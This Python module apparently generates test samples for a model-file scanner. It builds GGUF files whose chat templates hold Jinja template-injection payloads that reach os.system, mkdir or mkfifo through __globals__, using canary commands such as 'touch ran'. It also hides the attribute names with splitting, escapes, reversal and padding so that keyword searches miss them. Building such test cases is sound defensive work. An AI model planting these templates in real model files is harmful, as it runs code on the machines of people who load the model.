"""Attacks in the chat templates of GGUF files."""

from attack_kinds import recipe
from attack_pickles import le32, le64


# Kind 8. Chat templates.


def gguf_file(pairs: dict[str, object]) -> bytes:
    def string(item: str) -> bytes:
        raw = item.encode()
        return le64(len(raw)) + raw

    out = b"GGUF" + le32(3) + le64(0) + le64(len(pairs))
    for key, item in pairs.items():
        out += string(key)
        if isinstance(item, str):
            out += le32(8) + string(item)
        elif isinstance(item, int):
            out += le32(4) + le32(item)
        else:
            out += le32(9) + le32(8) + le64(len(item)) + b"".join(map(string, item))
    return out + bytes(-len(out) % 32)


def attribute_of(rng, owner: str, attribute: str) -> str:
    """Jinja for an attribute, spelled in ways that a search for words misses."""
    middle = attribute.strip("_")
    split = rng.randrange(1, len(attribute))
    escaped = "".join(rng.choice([letter, f"\\x{ord(letter):02x}", f"\\u{ord(letter):04x}"]) for letter in attribute)
    texts = [
        f"'{attribute[:split]}' ~ '{attribute[split:]}'", f"'{attribute[:split]}' + \"{attribute[split:]}\"",
        f"'{attribute[:split]}' '{attribute[split:]}'", f"'{escaped}'", f"'{attribute[::-1]}'[::-1]",
        f"'{attribute[::-1]}'|reverse", f"['__', '{middle}', '__']|join", f"'%s{middle}%s'|format('__', '__')",
        f"('_' * 2) ~ '{middle}' ~ ('_' * 2)", f"'{attribute.upper()}'|lower", f"'--{middle}--'|replace('-', '_')",
        f"'%c%c{middle}%c%c' % (95, 95, 95, 95)", f"'{{}}{middle}{{}}'.format('__', '__')",
    ]  # fmt: skip
    spelled = rng.choice(texts)
    ways = [
        f"({owner})|attr({spelled})", f"({owner})[{spelled}]", f"({owner})|attr({spelled})",
        f"({owner}).{attribute}", f"[{owner}]|map(attribute={spelled})|first", f"([{owner}]|map('attr', {spelled})|list)[0]",
        f"({owner})\n .\t{attribute}",
    ]  # fmt: skip
    return rng.choice(ways)


@recipe(8, "template", count=16, needs="not clean")
def chat_template(rng):
    owner = rng.choice(["cycler", "joiner", "namespace", "lipsum"])
    expression = owner if owner == "lipsum" else attribute_of(rng, owner, "__init__")
    expression = attribute_of(rng, expression, "__globals__")
    spelled = rng.choice(["['os']", "['o' ~ 's']", ".os", "['\\x6fs']"])
    function, argument = rng.choice([("mkdir", "ran"), ("system", "touch ran"), ("mkfifo", "ran")])
    expression = f"({expression}){spelled}" + rng.choice([f".{function}", f"['{function}']", f"|attr('{function}')"])
    expression = f"({expression})('{argument}')"
    statement = rng.choice([
        f"{{{{ {expression} }}}}", f"{{% if {expression} %}}{{% endif %}}", f"{{% set x = {expression} %}}",
        f"{{%- for m in messages -%}}{{{{ m.content }}}}{{{{- {expression} -}}}}{{%- endfor -%}}",
        f"{{% macro f() %}}{{{{ {expression} }}}}{{% endmacro %}}{{{{ f() }}}}",
        f"{{# {{{{ messages }}}} #}}{{{{ {expression} }}}}",
    ])  # fmt: skip
    harmless = (
        "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\n' + message['content'] }}{% endfor %}"
    )
    template = rng.choice(["", harmless]) + statement
    pairs = {"general.architecture": "llama"}
    if rng.random() < 0.4:
        pairs["tokenizer.ggml.tokens"] = ["token%05d" % number for number in range(rng.choice([100, 70_000]))]
    if rng.random() < 0.3:
        template = "{# " + "x" * rng.choice([2000, 1_100_000]) + " #}" + template
    key = rng.choice(["tokenizer.chat_template", "tokenizer.chat_template", "tokenizer.chat_template.tool_use"])
    pairs[key] = template
    return {".gguf": gguf_file(pairs)}
